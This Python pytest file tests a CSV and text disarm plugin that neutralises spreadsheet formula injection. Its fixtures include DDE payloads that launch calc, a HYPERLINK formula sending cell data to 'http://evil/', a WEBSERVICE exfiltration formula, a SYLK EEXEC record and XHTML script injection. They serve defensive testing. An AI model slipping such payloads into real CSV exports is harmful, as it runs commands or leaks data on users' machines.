"""The example plugin gicap-text: strict text decoding and CSV formula neutralising."""

from __future__ import annotations

import codecs
import csv
import io
import random
import re
import tracemalloc
from importlib.metadata import entry_points
from pathlib import Path

import gicap_text
import pytest

from gicap.cdr.detect import FILE_TYPES
from gicap.cdr.types import Action, DisarmRequest, DisarmResult, FileType
from gicap.plugins import create_plugin_host

CSV = FileType("csv", "text", "text/csv", "csv")
TEXT = FileType("text", "text", "text/plain", "txt")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

# Records as cells; written below with every line terminator / BOM / delimiter.
ROWS = [
    ["name", "value", "note"],
    ["dde", "=cmd|' /C calc'!A0", "plain"],
    ["plus", "+1+1", "-2+3"],
    ["at", "@SUM(1,1)", "a;b,c"],
    ["tab", "\tleading tab", "\rleading CR"],
    ["quoted", 'he said "hi", twice', "two\nlines"],
    ["numbers", "-5", "+33 1 23"],
    ["safe", "1+1", "x=y"],
]
FORMULA_COUNT = sum(cell.startswith(DANGEROUS) for row in ROWS for cell in row)


def _csv_text(rows: list[list[str]], delimiter: str = ",", newline: str = "\n") -> str:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    # Quoted cells keep their own "\n"; only the record terminators follow `newline`.
    return buf.getvalue().replace("\r\n", newline) if newline != "\r\n" else buf.getvalue()


def _request(
    tmp_path: Path,
    data: bytes,
    file_type: FileType = CSV,
    switches: dict[str, str] | None = None,
    limits: dict[str, int] | None = None,
) -> DisarmRequest:
    source = tmp_path / f"in.{file_type.extension}"
    source.write_bytes(data)
    return DisarmRequest(
        file_type=file_type,
        source=source,
        destination=tmp_path / f"out.{file_type.extension}",
        switches=switches if switches is not None else {},
        limits=limits or {},
    )


def _disarm(request: DisarmRequest) -> DisarmResult:
    result = gicap_text.gicap_disarm(request=request)
    assert result is not None
    return result


def _read(data: bytes, encoding: str = "utf-8-sig", delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline=""), delimiter=delimiter))


def test_claims_csv_text_and_scripts_only(tmp_path: Path) -> None:
    assert gicap_text.gicap_file_types() == ["csv", "text", "script"]
    for name in ("docx", "pdf", "zip"):
        other = FileType(name, "other", "application/octet-stream", name)
        assert gicap_text.gicap_disarm(request=_request(tmp_path, b"=1+1\n", other)) is None


def test_found_through_the_gicap_entry_point() -> None:
    found = {ep.name: ep.value for ep in entry_points(group="gicap")}
    assert found.get("text") == "gicap_text"
    host = create_plugin_host()
    assert host.loaded["text"] == "gicap_text"
    assert ["csv", "text", "script"] in host.manager.hook.gicap_file_types()


@pytest.mark.parametrize("value", ["sanitise", "disallow"])
def test_scripts_are_blocked_unless_allowed(tmp_path: Path, value: str) -> None:
    script = FILE_TYPES["script"]
    data = b'WScript.Echo "hi"\n'
    result = _disarm(_request(tmp_path, data, script, {"scripts": value}))
    assert result.outcome == "blocked"
    assert result.actions == [Action("scripts", "blocked", result.actions[0].detail)]
    assert "a script a desktop runs" in result.reason
    kept = _disarm(_request(tmp_path, data, script, {"scripts": "allow"}))
    assert kept.outcome == "unmodified"
    assert [(a.switch, a.action) for a in kept.actions] == [("scripts", "kept")]


def test_the_plugin_host_routes_csv_to_it(tmp_path: Path) -> None:
    host = create_plugin_host()
    request = _request(tmp_path, b"a,=1+1\n")
    result = host.manager.hook.gicap_disarm(request=request)
    assert result.outcome == "rebuilt"
    assert request.destination.read_bytes() == b"a,'=1+1\n"


@pytest.mark.parametrize("newline", ["\n", "\r\n"], ids=["LF", "CRLF"])
@pytest.mark.parametrize("bom", [b"", codecs.BOM_UTF8], ids=["no-BOM", "BOM"])
@pytest.mark.parametrize("delimiter", [",", ";"], ids=["comma", "semicolon"])
def test_formula_cells_are_neutralised(
    tmp_path: Path, newline: str, bom: bytes, delimiter: str
) -> None:
    source = bom + _csv_text(ROWS, delimiter, newline).encode()
    request = _request(tmp_path, source)
    result = _disarm(request)

    assert result.outcome == "rebuilt"
    assert result.actions == [Action("formulas", "neutralised", f"{FORMULA_COUNT} cells")]
    out = request.destination.read_bytes()
    assert out.startswith(codecs.BOM_UTF8) == bool(bom)
    # Line terminator style kept: as many CRLFs as records in CRLF files, none in LF ones.
    assert out.count(b"\r\n") == (len(ROWS) if newline == "\r\n" else 0)
    assert out.endswith(newline.encode())

    rows = _read(out, delimiter=delimiter)
    assert len(rows) == len(ROWS)
    for original, rebuilt in zip(ROWS, rows, strict=True):
        assert len(rebuilt) == len(original)
        for before, after in zip(original, rebuilt, strict=True):
            if before.startswith(DANGEROUS):
                assert after == "'" + before
            else:
                assert after == before  # safe cells unchanged, including "1+1"
        assert not any(cell.startswith(DANGEROUS) for cell in rebuilt)

    # Records without formulas are copied byte for byte (header, "safe").
    for row in (ROWS[0], ROWS[-1]):
        assert (delimiter.join(row) + newline).encode() in out


def test_exact_rewrite_keeps_untouched_quoting(tmp_path: Path) -> None:
    source = (
        b'"id","name"\r\n'  # needless quotes kept: no formula in this record
        b'1,"=HYPERLINK(""http://x"",""y"")"\r\n'
        b'2,"-5"\r\n'
        b'3,"a,b"\r\n'
        b"4,@x"  # last line without a line break stays so
    )
    request = _request(tmp_path, source)
    assert _disarm(request).outcome == "rebuilt"
    assert request.destination.read_bytes() == (
        b'"id","name"\r\n1,"\'=HYPERLINK(""http://x"",""y"")"\r\n2,\'-5\r\n3,"a,b"\r\n4,\'@x'
    )


def test_cr_and_tab_leading_cells_stay_inside_quotes(tmp_path: Path) -> None:
    request = _request(tmp_path, b'a,"\rcalc",b\n"\t=1+1",c,d\n')
    assert _disarm(request).outcome == "rebuilt"
    out = request.destination.read_bytes()
    # (written unquoted, the cell's tab splits it for LibreOffice: "=1+1" is
    # neutralised there too)
    assert out == b"a,\"'\rcalc\",b\n'\t'=1+1,c,d\n"
    assert _read(out) == [["a", "'\rcalc", "b"], ["'\t'=1+1", "c", "d"]]


def test_semicolon_file_with_commas_in_cells(tmp_path: Path) -> None:
    source = b"a;b;c\n1,5;=SUM(A1,A2);x,y\n2,5;-3;ok\n"
    request = _request(tmp_path, source)
    result = _disarm(request)
    assert result.outcome == "rebuilt"
    assert result.actions[0].detail == "2 cells"
    assert request.destination.read_bytes() == b"a;b;c\n1,5;'=SUM(A1,A2);x,y\n2,5;'-3;ok\n"


def test_excel_sep_line_sets_the_delimiter(tmp_path: Path) -> None:
    request = _request(tmp_path, b"sep=;\n=1;2\n")
    assert _disarm(request).outcome == "rebuilt"
    assert request.destination.read_bytes() == b"sep=;\n'=1;2\n"


def test_utf16_csv_is_rebuilt_in_utf16(tmp_path: Path) -> None:
    source = codecs.BOM_UTF16_LE + "é,=1+1\r\n".encode("utf-16-le")
    request = _request(tmp_path, source)
    assert _disarm(request).outcome == "rebuilt"
    assert request.destination.read_bytes() == (
        codecs.BOM_UTF16_LE + "é,'=1+1\r\n".encode("utf-16-le")
    )


def test_allow_keeps_formulas(tmp_path: Path) -> None:
    request = _request(tmp_path, _csv_text(ROWS).encode(), switches={"formulas": "allow"})
    result = _disarm(request)
    assert result.outcome == "unmodified"
    assert result.actions == [Action("formulas", "kept", f"{FORMULA_COUNT} cells")]
    assert not request.destination.exists()


def test_disallow_blocks_formulas(tmp_path: Path) -> None:
    request = _request(tmp_path, _csv_text(ROWS).encode(), switches={"formulas": "disallow"})
    result = _disarm(request)
    assert result.outcome == "blocked"
    assert "formula" in result.reason and "record 2, column 2" in result.reason
    assert result.actions == [Action("formulas", "blocked", f"{FORMULA_COUNT} cells")]
    assert not request.destination.exists()


@pytest.mark.parametrize("policy", ["allow", "sanitise", "disallow"])
def test_clean_csv_is_unmodified(tmp_path: Path, policy: str) -> None:
    clean = [["a", "b,c", "multi\nline"], ["1+1", "x=y", 'q"uote'], ["5", "", "café"]]
    request = _request(tmp_path, _csv_text(clean).encode(), switches={"formulas": policy})
    result = _disarm(request)
    assert result.outcome == "unmodified"
    assert result.actions == []
    assert not request.destination.exists()


@pytest.mark.parametrize("file_type", [CSV, TEXT], ids=["csv", "text"])
@pytest.mark.parametrize(
    "data",
    [
        b"a,b\n\x1b$B\xff=1+1\x80\n",  # not UTF-8, and shifting with ESC (ISO-2022)
        codecs.BOM_UTF8 + b"a,b\n\xc3(,c\n",  # a UTF-8 BOM, then no UTF-8
        b"a,b\x00c\n",  # NUL
        codecs.BOM_UTF16_LE + b"a\x00,",  # odd-length UTF-16
        b"a\x00,\x00=\x001\x00",  # BOM-less UTF-16 reads as NULs
    ],
    ids=["escape-shifted", "bom-then-invalid", "nul", "odd-utf16", "utf16-no-bom"],
)
def test_undecodable_is_unprocessable(tmp_path: Path, file_type: FileType, data: bytes) -> None:
    request = _request(tmp_path, data, file_type)
    result = _disarm(request)
    assert result.outcome == "unprocessable"
    assert result.reason
    assert not request.destination.exists()


def test_malformed_csv_is_unprocessable(tmp_path: Path) -> None:
    request = _request(tmp_path, b'a,b\n"=1+1,unterminated\n')
    result = _disarm(request)
    assert result.outcome == "unprocessable"
    assert "malformed CSV" in result.reason
    assert not request.destination.exists()


def test_max_file_size(tmp_path: Path) -> None:
    request = _request(tmp_path, b"a,b\n" * 100, limits={"max_file_size": 50})
    result = _disarm(request)
    assert result.outcome == "unprocessable"
    assert "max_file_size" in result.reason
    request = _request(tmp_path, b"a,b\n" * 10, limits={"max_file_size": 50})
    assert _disarm(request).outcome == "unmodified"


@pytest.mark.parametrize(
    "data",
    [
        b"plain text, =1+1 is fine here\n",
        codecs.BOM_UTF8 + "caf\u00e9\r\n".encode(),
        codecs.BOM_UTF16_BE + "hello\n".encode("utf-16-be"),
        b"",
    ],
    ids=["utf8", "utf8-bom", "utf16-be", "empty"],
)
def test_text_is_unmodified(tmp_path: Path, data: bytes) -> None:
    request = _request(tmp_path, data, TEXT)
    assert _disarm(request) == DisarmResult("unmodified")
    assert not request.destination.exists()


# ----------------------------------------------------- exactness of the fast paths


def _sniffer(sample: str) -> str:
    try:
        return csv.Sniffer().sniff(sample, delimiters=",;\t|").delimiter
    except csv.Error:
        return ""


SNIFF_SAMPLES = [
    "a,b,c\n1,2,3\n4,5,6\n",
    "a;b;c\n1,5;2;3\n4,5;6;7\n",
    "a\tb\tc\n1\t2\t3\n",
    "a|b|c\n1|2|3\n",
    "a,b;c\n1,2;3\n",  # two candidates: the preferred one
    "a|b;c\n1|2;3\n",
    "no delimiter here\nnor here\n",
    "",
    "a,b\n" + "x\n" * 30 + "c,d\n" * 15,  # decided in a later chunk of lines
    "a,b,c\n1,2\n3,4,5,6\n" * 7,
    "it's,a,test\n1,2,3\n",  # a quote character: csv.Sniffer itself
    'x;"y";z\n1;"2";3\n',
]


@pytest.mark.parametrize("sample", SNIFF_SAMPLES)
def test_delimiter_is_csv_sniffers(sample: str) -> None:
    assert gicap_text._sniff_delimiter(sample) == _sniffer(sample)


def test_delimiter_is_csv_sniffers_on_random_samples() -> None:
    rng = random.Random(7)
    pieces = ["a", "1", ",", ";", "\t", "|", " ", "x y", ",,", ";;"]
    for _ in range(1500):
        lines = [
            "".join(rng.choice(pieces) for _ in range(rng.randrange(8)))
            for _ in range(rng.randrange(40))
        ]
        sample = rng.choice(["\n", "\r\n"]).join(lines)
        assert gicap_text._sniff_delimiter(sample) == _sniffer(sample), repr(sample)


def _reference(text: str, delimiter: str) -> tuple[int, tuple[int, int] | None, list[list[str]]]:
    """Formula cells counted, the first located and every record neutralised, by
    csv.reader over the whole text."""
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))
    found = [
        (r, c)
        for r, row in enumerate(rows, 1)
        for c, cell in enumerate(row, 1)
        if cell.startswith(DANGEROUS)
    ]
    fixed = [["'" + c if c.startswith(DANGEROUS) else c for c in row] for row in rows]
    return len(found), (found[0] if found else None), fixed


@pytest.mark.parametrize("padding", [0, 400], ids=["dense", "sparse"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("newline", ["\n", "\r\n", "\r"], ids=["LF", "CRLF", "CR"])
def test_quote_free_csv_matches_csv_reader(
    tmp_path: Path, delimiter: str, newline: str, padding: int
) -> None:
    # "sparse": formula characters are rare (found one by one), "dense": they are not.
    rng = random.Random(f"{delimiter}{newline}{padding}")
    atoms = ["a", "1", "=1+1", "-3", "+x", "@S", "\tq", "", " ", "x=y", "a-b", "=", "é"]
    atoms = [a for a in atoms if delimiter not in a]
    for i in range(60):
        rows = [
            delimiter.join(rng.choice(atoms) for _ in range(rng.randint(1, 5)))
            for _ in range(rng.randint(1, 30))
        ]
        rows = [f"a{delimiter}b"] * rng.randint(0, padding) + rows + [f"c{delimiter}d"] * padding
        text = newline.join(rows) + (newline if i % 2 else "")
        if text.startswith("\r"):
            continue
        data = f"sep={delimiter}{newline}{text}".encode()
        count, first, fixed = _reference(f"sep={delimiter}{newline}{text}", delimiter)
        request = _request(tmp_path, data)
        result = _disarm(request)
        if not count:
            assert result == DisarmResult("unmodified")
            continue
        assert result.outcome == "rebuilt"
        assert result.actions[0].detail == f"{count} cell{'s' if count != 1 else ''}"
        out = request.destination.read_bytes()
        assert _read(out, delimiter=delimiter) == fixed
        blocked = _disarm(_request(tmp_path, data, switches={"formulas": "disallow"}))
        assert first is not None
        assert f"the first at record {first[0]}, column {first[1]})" in blocked.reason


def test_tab_delimited_empty_cells_are_not_formulas(tmp_path: Path) -> None:
    request = _request(tmp_path, b"a\tb\tc\n1\t\t\n2\t\t=x\n3\t\t\n")
    result = _disarm(request)
    assert result.actions == [Action("formulas", "neutralised", "1 cell")]
    assert request.destination.read_bytes() == b"a\tb\tc\n1\t\t\n2\t\t'=x\n3\t\t\n"


def test_cell_over_the_field_size_limit_is_unprocessable(tmp_path: Path) -> None:
    old = csv.field_size_limit(20)
    try:
        long_line = _request(tmp_path, b"a,b\n" + b"x" * 30 + b",=1\n")
        assert "malformed CSV" in _disarm(long_line).reason
        long_cells = _request(tmp_path, b"a,b\n" + b"x" * 15 + b"," + b"y" * 15 + b",=1\n")
        assert _disarm(long_cells).outcome == "rebuilt"  # a long line of short cells
    finally:
        csv.field_size_limit(old)
    assert _read(long_cells.destination.read_bytes())[1] == ["x" * 15, "y" * 15, "'=1"]


def test_formulas_dense_after_a_sparse_beginning(tmp_path: Path) -> None:
    # The beginning says formula characters are rare, the rest has many of them.
    text = "a,b\n" * 3000 + "=1,-2,x-y,@3\n" * 400 + "c,d\n" * 10
    count, first, fixed = _reference(text, ",")
    request = _request(tmp_path, text.encode())
    result = _disarm(request)
    assert result.actions == [Action("formulas", "neutralised", f"{count} cells")]
    assert count == 1200
    assert _read(request.destination.read_bytes()) == fixed
    blocked = _disarm(_request(tmp_path, text.encode(), switches={"formulas": "disallow"}))
    assert first == (3001, 1)
    assert "the first at record 3001, column 1)" in blocked.reason


# ------------------------------------------------- quote-free rewrite in one pass


def _record_by_record(text: str, delimiter: str) -> str:
    """Quote-free ``text`` as a record by record rewrite writes it (computed here with
    the csv module alone): each line holding a formula cell written by ``csv.writer``
    with those cells prefixed, followed by its own line break; other lines as they are."""
    out: list[str] = []
    for line in re.findall(r"[^\r\n]*(?:\r\n|\r|\n)|[^\r\n]+", text):
        body = line.rstrip("\r\n")
        cells = next(csv.reader([body], delimiter=delimiter)) if body else []
        if not any(c.startswith(DANGEROUS) for c in cells):
            out.append(line)
            continue
        buf = io.StringIO()
        csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerow(
            ["'" + c if c.startswith(DANGEROUS) else c for c in cells]
        )
        out.append(buf.getvalue()[:-2] + line[len(body) :])
    return "".join(out)


# (not "=": a line starting with that delimiter starts a formula for LibreOffice)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|", " ", "-"])
def test_quote_free_rewrite_is_the_record_by_record_rewrite(tmp_path: Path, delimiter: str) -> None:
    # Quote-free text is neutralised in one pass over the text: byte for byte what
    # csv.writer writes for the records holding formula cells, the rest unchanged.
    rng = random.Random(f"one-pass{delimiter}")
    atoms = ["a", "1", "=1+1", "-3", "+x", "@S", "\tq", "", "x=y", "'q", "=", "é", "\x0cf"]
    for i in range(80):
        lines = [
            delimiter.join(rng.choice(atoms) for _ in range(rng.randint(1, 5)))
            for _ in range(rng.randint(1, 25))
        ]
        breaks = [rng.choice(["\n", "\r\n", "\r"]) for _ in lines]
        text = f"sep={delimiter}\n" + "".join(a + b for a, b in zip(lines, breaks, strict=True))
        if i % 3 == 0:
            text = text.rstrip("\r\n")
        assert '"' not in text
        request = _request(tmp_path, text.encode())
        result = _disarm(request)
        expected = _record_by_record(text, delimiter)
        if expected == text:
            assert result.outcome == "unmodified"
            continue
        assert result.outcome == "rebuilt", (text, result)
        out = request.destination.read_bytes().decode()
        assert out == expected, repr(text)
        count, _first, fixed = _reference(text, delimiter)
        assert result.actions == [
            Action("formulas", "neutralised", f"{count} cell{'s' if count != 1 else ''}")
        ]
        assert list(csv.reader(io.StringIO(out, newline=""), delimiter=delimiter)) == fixed


def test_neutraliser_as_the_delimiter_quotes_the_prefixed_cell(tmp_path: Path) -> None:
    # With "'" as the delimiter, a prefixed cell holds the delimiter: csv.writer
    # quotes it (a bare prefix would split the cell in two).
    request = _request(tmp_path, b"sep='\na'=1\nb'c\n")
    result = _disarm(request)
    assert result.actions == [Action("formulas", "neutralised", "1 cell")]
    out = request.destination.read_bytes()
    assert out == b"sep='\na'\"'=1\"\nb'c\n"
    assert _read(out, delimiter="'")[1:] == [["a", "'=1"], ["b", "c"]]


@pytest.mark.parametrize("newline", ["", "\n"], ids=["last-line", "LF"])
def test_prefixed_cell_over_the_field_size_limit_is_unprocessable(
    tmp_path: Path, newline: str
) -> None:
    # Prefixing a cell of exactly the csv field size limit makes it one too long: the
    # rewritten record would not read back, so the file is not delivered.
    old = csv.field_size_limit(20)
    try:
        at_limit = _disarm(_request(tmp_path, ("=" + "x" * 19 + newline).encode()))
        below = _request(tmp_path, ("=" + "x" * 18 + newline).encode())
        below_result = _disarm(below)
    finally:
        csv.field_size_limit(old)
    assert at_limit.outcome == "unprocessable"
    assert below_result.outcome == "rebuilt"
    assert below.destination.read_bytes() == ("'=" + "x" * 18 + newline).encode()


def test_one_pass_rewrite_is_checked_before_it_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Defence in depth: an output that still holds a formula cell is never written.
    monkeypatch.setattr(gicap_text, "NEUTRALISER", "")  # "neutralising" changes nothing
    request = _request(tmp_path, b"a,b\n=1,2\n")
    result = _disarm(request)
    assert result.outcome == "unprocessable"
    assert "cannot rewrite CSV" in result.reason
    assert not request.destination.exists()


def test_csv_without_formula_characters_needs_no_delimiter(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # No quote and no formula character anywhere: no cell can be a formula, whatever
    # the delimiter, so the file is delivered without looking for one.
    def no_sniffing(text: str) -> str:
        raise AssertionError("the delimiter was looked for")

    monkeypatch.setattr(gicap_text, "_detect_delimiter", no_sniffing)
    clean = b"id;name,note|x\r\n1;a b,ok|2.5\r\n\xc3\xa9;'q,\x0c|\n"
    assert _disarm(_request(tmp_path, clean)).outcome == "unmodified"
    for data in (b"a,b\n1,-2\n", b"a\tb\n1\t2\n", b'a,"b"\n'):  # each needs the delimiter
        with pytest.raises(AssertionError, match="delimiter was looked for"):
            _disarm(_request(tmp_path, data))
    monkeypatch.undo()
    old = csv.field_size_limit(20)
    try:  # a line longer than the field size limit is still refused
        long_line = _disarm(_request(tmp_path, b"a,b\n" + b"x" * 30 + b"\n"))
    finally:
        csv.field_size_limit(old)
    assert long_line.outcome == "unprocessable"


@pytest.mark.parametrize(
    "text",
    [
        # one line break of the other kind at the end: every line used to search to it
        "sep='\n" + "=\n" * 150_000 + "\r",
        "x" * 131_072 + "\n" + "=\r" * 150_000 + "\n",
    ],
    ids=["sep-quote-lf-then-cr", "limit-line-cr-then-lf"],
)
def test_formula_lines_with_mixed_line_breaks_take_linear_time(tmp_path: Path, text: str) -> None:
    import time

    request = _request(tmp_path, text.encode())
    start = time.perf_counter()
    result = _disarm(request)
    assert time.perf_counter() - start < 5  # was seconds per 0.3 MB, growing squarely
    assert result.outcome == "rebuilt", result
    assert "'=" in request.destination.read_text()


# ------------------------------------------ what Excel reads otherwise (locale, SYLK)


def _excel_cells(data: bytes, delimiter: str) -> list[str]:
    """Every cell as Excel reads the file on ``delimiter``: a quote starts a quoted
    field only as its first character (csv.reader, not strict, reads it so too)."""
    text = data.decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=False)
    return [cell for row in rows for cell in row]


def _live(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(("=", "+", "-", "@"))]


STEERED = {
    # the sniffer picks ";" (or "|"), an en-US Excel splits the .csv on ","
    "semicolons": b"a;b\nc;d\ne;f\nx,=cmd|' /C calc'!A0;y\n",
    "pipes": b'a|b\nc|d\ne|f\nx,=HYPERLINK("http://evil/?"&A1)|y\n',
    # Excel ignores "sep=" after a byte order mark
    "bom-and-sep": b"\xef\xbb\xbfsep=;\nname;v\nx,=cmd|' /C calc'!A0;y\n",
    # a quote in the middle of a field is a character for Excel: on ",", the line
    # break inside the ";" file's quoted cell starts a record
    "quoted-on-one-delimiter-only": b"a;b\nc;d\ne;\"x,y\n=cmd|' /C calc'!A0\"\n",
    # the other way round: a "," file read on ";"
    "comma-file-read-on-semicolons": b"a,b\nc,d\ne,f\ng,h;@SUM(1+1)*cmd|' /C calc'!A0\n",
    # a neutraliser put inside the "" of another reading would end its quoted field
    # there: it goes after the whole run of quotes
    "quotes-of-two-readings": b'a,"x;""=1"",=cmd|\' /C calc\'!A0,b"\r\n',
}


@pytest.mark.parametrize("name", sorted(STEERED))
def test_cells_excel_splits_on_its_locale_separator_are_neutralised(
    tmp_path: Path, name: str
) -> None:
    data = STEERED[name]
    request = _request(tmp_path, data)
    result = _disarm(request)
    assert result.outcome == "rebuilt", result
    assert result.actions[0].switch == "formulas" and result.actions[0].action == "neutralised"
    out = request.destination.read_bytes()
    assert out.startswith(b"\xef\xbb\xbf") == data.startswith(b"\xef\xbb\xbf")
    for delimiter in (",", ";", "|"):
        assert not _live(_excel_cells(out, delimiter)), (delimiter, out)
    assert len(out) > len(data)  # (characters added, none removed)
    blocked = _disarm(_request(tmp_path, data, switches={"formulas": "disallow"}))
    assert blocked.outcome == "blocked"
    kept = _disarm(_request(tmp_path, data, switches={"formulas": "allow"}))
    assert kept.outcome == "unmodified"


def test_a_named_delimiter_without_a_bom_is_the_one_excel_uses(tmp_path: Path) -> None:
    """Excel splits on a "sep=" first line's delimiter (no byte order mark before it):
    a comma inside a cell is then a character, not the start of a cell; LibreOffice
    ignores the line and splits on commas too (its WEBSERVICE formula ran)."""
    data = b"sep=;\nname;v\nx,=1+1;y\n"
    request = _request(tmp_path, data)
    assert _disarm(request).outcome == "rebuilt"
    out = request.destination.read_bytes()
    assert out == b"sep=;\nname;v\nx,'=1+1;y\n"
    assert _read(out, delimiter=";")[2] == ["x,'=1+1", "y"]  # (Excel: two cells)


@pytest.mark.parametrize(
    "data",
    [
        b'alice,x\t=WEBSERVICE("http://127.0.0.1/?"&A1)\n',  # a tab in a UTF-8 cell
        b"a;b\nx\t=1+1;y\n",
        b"\"q\";x,=cmd|' /c calc'!A0\n",
    ],
    ids=["tab-in-utf8", "tab-in-semicolon-file", "comma-in-semicolon-file"],
)
def test_libreoffice_reading_on_all_its_separators_is_neutralised(
    tmp_path: Path, data: bytes
) -> None:
    """LibreOffice splits a .csv on tab, comma and semicolon at once (its defaults),
    in any encoding: a tab inside a cell of a UTF-8 file gave it a formula."""
    request = _request(tmp_path, data)
    result = _disarm(request)
    assert result.outcome == "rebuilt", result
    out = request.destination.read_bytes().decode()
    fields = re.split(r"[\t,;\r\n]", out)
    assert not any(f.lstrip('"').startswith("=") for f in fields), out


def test_ordinary_files_of_either_separator_are_not_touched(tmp_path: Path) -> None:
    for data in (
        b"id,name,amount\n1,item,12.50\n2,other,3.25\n",
        b"id;name;amount\n1;item;12,50\n2;other;3,25\n",  # (decimal commas)
        b'id,notes\n1,"several lines\nsecond line"\n2,"a; b"\n',
    ):
        assert _disarm(_request(tmp_path, data)).outcome == "unmodified", data


def test_a_file_excel_reads_as_sylk_is_quoted(tmp_path: Path) -> None:
    """Excel reads a .csv starting with "ID" as SYLK, whose records hold formulas no
    cell shows (``EEXEC``); quoted, the first cell holds the same and Excel reads CSV."""
    data = b'ID;PWXL;N;E\r\nC;Y1;X1;K0;EEXEC("calc.exe")\r\nE\r\n'
    request = _request(tmp_path, data)
    result = _disarm(request)
    assert result.outcome == "rebuilt", result
    out = request.destination.read_bytes()
    assert not out.startswith(b"ID") and out.startswith(b'"ID')
    own = gicap_text._detect_delimiter(data.decode())
    assert _read(out, delimiter=own) == _read(data, delimiter=own)
    # the first cell ends at the file's own delimiter, whatever else it holds
    mixed = b"ID|Code,Name\r\n1|A,alice\r\n"
    request = _request(tmp_path, mixed)
    assert _disarm(request).outcome == "rebuilt"
    out = request.destination.read_bytes()
    assert out.startswith(b'"ID|Code",') and _read(out) == _read(mixed)
    plain = b"ID,name\n1,a\n2,b\n"
    request = _request(tmp_path, plain)
    assert _disarm(request).outcome == "rebuilt"
    out = request.destination.read_bytes()
    assert out == b'"ID",name\n1,a\n2,b\n' and _read(out) == _read(plain)


def test_utf16_files_are_also_read_on_tabs(tmp_path: Path) -> None:
    """Excel splits a UTF-16 text file on tabs."""
    data = codecs.BOM_UTF16_LE + "name,v\nbob,x\t=1+1\nal,y\n".encode("utf-16-le")
    request = _request(tmp_path, data)
    result = _disarm(request)
    assert result.outcome == "rebuilt", result
    out = request.destination.read_bytes()
    assert out.startswith(codecs.BOM_UTF16_LE)
    text = out[2:].decode("utf-16-le")
    rows = csv.reader(io.StringIO(text, newline=""), delimiter="\t", strict=False)
    assert not _live([c for row in rows for c in row])


def test_an_id_header_is_no_formula(tmp_path: Path) -> None:
    """A first cell "ID" is quoted whatever the policy but "allow" (where formulas
    are allowed, SYLK ones too), and blocks nothing."""
    data = b"ID,name\n1,a\n"
    blocked = _disarm(_request(tmp_path, data, switches={"formulas": "disallow"}))
    assert blocked.outcome == "rebuilt"
    assert _disarm(_request(tmp_path, data, switches={"formulas": "allow"})).outcome == (
        "unmodified"
    )


def test_xml_a_browser_runs_scripts_in_past_what_detection_reads_is_refused(
    tmp_path: Path,
) -> None:
    """Detection reads the first 64 KiB: an XHTML namespace declared after them made
    the file plain text, delivered as it came."""
    padding = "".join(f"<row n='{i}'>{'x' * 60}</row>\n" for i in range(1500))
    data = (
        '<?xml version="1.0"?><report>' + padding + '<h:p xmlns:h="http://www.w3.org/1999/xhtml">'
        "<h:script>alert(1)</h:script></h:p></report>\n"
    ).encode()
    assert len(data) > 65536
    result = _disarm(_request(tmp_path, data, TEXT))
    assert result.outcome == "unprocessable" and "XML a browser" in (result.reason or "")
    plain = ('<?xml version="1.0"?><report>' + padding + "</report>\n").encode()
    assert _disarm(_request(tmp_path, plain, TEXT)).outcome == "unmodified"


def test_the_quoted_cell_step_reads_the_start_of_the_sample(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """csv.Sniffer's quoted-cell patterns read on from every quote: 16 KiB of lines
    opening a quote never closed took 5 s. They read the first 2 KiB now; without a
    quoted cell there, the delimiter is guessed from the whole sample."""
    seen: list[int] = []
    real = csv.Sniffer._guess_quote_and_delimiter

    def spy(self: csv.Sniffer, data: str, delimiters: str) -> tuple[str, bool, str, bool]:
        seen.append(len(data))
        return real(self, data, delimiters)

    monkeypatch.setattr(csv.Sniffer, "_guess_quote_and_delimiter", spy)
    gicap_text._sniff_delimiter("\"'\n" * 5000 + "a;b\n" * 20)
    assert seen == [gicap_text.QUOTE_SNIFF_CHARS]
    assert gicap_text._sniff_delimiter('"a","b"\n"c","d"\n' * 10) == ","


def test_cells_after_a_tab_are_read_as_excel_reads_a_tsv(tmp_path: Path) -> None:
    """Excel splits text named .xls, .tsv or .tab on tabs (a common export): a cell
    after a tab starting with @, + or - was a formula there, and the file, whose own
    delimiter is ",", went out unmodified."""
    data = (
        b"name,amount\tnote,x\n"
        b"bob,1\t@SUM(1+9)*cmd|' /C calc'!A0,y\n"
        b"al,2\t+cmd|' /C calc'!A0,z\n"
        b"cy,3\t-2+3+cmd|' /C calc'!A0,w\n"
    )
    request = _request(tmp_path, data)
    result = _disarm(request)
    assert result.outcome == "rebuilt", result
    for row in _read(request.destination.read_bytes(), delimiter="\t")[1:]:
        assert row[1][:1] not in ("@", "+", "-", "="), row


#: LibreOffice's quoting is not Excel's: it skips spaces before a quote, closes a
#: quoted cell only at a quote followed by a separator, and reads a quote that never
#: closes as a character. Each of these was delivered unmodified, and LibreOffice
#: evaluated =21*2 (42) when it opened it.
LIBREOFFICE_QUOTING = {
    "space-before-a-quote": 'name,amount\nbob, "=21*2"\n',
    "space-before-a-quote-tsv": 'name\tamount\nbob\t "=21*2"\n',
    "quote-state-out-of-step": 'name,comment\nbob, "hello\n",=21*2,"\nal,ok\n',
    "quote-closing-before-a-separator-only": 'name;amount\nbob;1\nal;x,",=21*2\ncy;3\n',
    "a-quote-that-never-closes": 'name;amount\nbob;a,"x\ncy;b,=21*2\ndi;4\n',
    "quotes-inside-a-cell": 'h1|h2\nv|x;"a"b,",=21*2\n',
}


@pytest.mark.parametrize("text", LIBREOFFICE_QUOTING.values(), ids=LIBREOFFICE_QUOTING)
def test_an_equals_sign_at_any_cell_start_libreoffice_may_see_is_neutralised(
    tmp_path: Path, text: str
) -> None:
    request = _request(tmp_path, text.encode())
    result = _disarm(request)
    assert result.outcome == "rebuilt", result
    out = request.destination.read_text()
    assert "'=21*2" in out and out.replace("'=", "") == text.replace("=", "")
    assert not re.search(r'(?:\A|[\t,;\r\n])[ "]*=', out)


